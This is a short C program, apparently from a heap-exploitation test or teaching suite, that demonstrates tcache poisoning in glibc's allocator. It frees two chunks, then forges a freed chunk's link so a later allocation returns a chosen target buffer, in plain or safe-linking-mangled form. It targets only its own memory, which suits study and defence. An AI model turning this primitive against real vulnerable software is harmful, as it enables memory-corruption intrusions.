/* Free-list forgery ("tcache poisoning"): the first word of a free object is made to point to memory of the
 * attacker's choice; an allocation soon gets it. tcache_forgery [plain|mangled] SIZE: how the pointer is hidden. */
#include "attack.h"

static _Alignas(64) uint64_t target[64];

int main(int argc, char **argv)
{
	begin();
	bool plain = !strcmp(word(argc, argv, 1, "mangled"), "plain");
	size_t n = argument(argc, argv, 2, 0x38);
	forge_chunk(target, 0x40);
	hold(target, sizeof target);
	void *first = surrounded(n);
	uintptr_t *victim = surrounded(n);
	free(hide(first));
	free(hide(victim));
	return forge_link(victim, target + 2, plain, n);
}
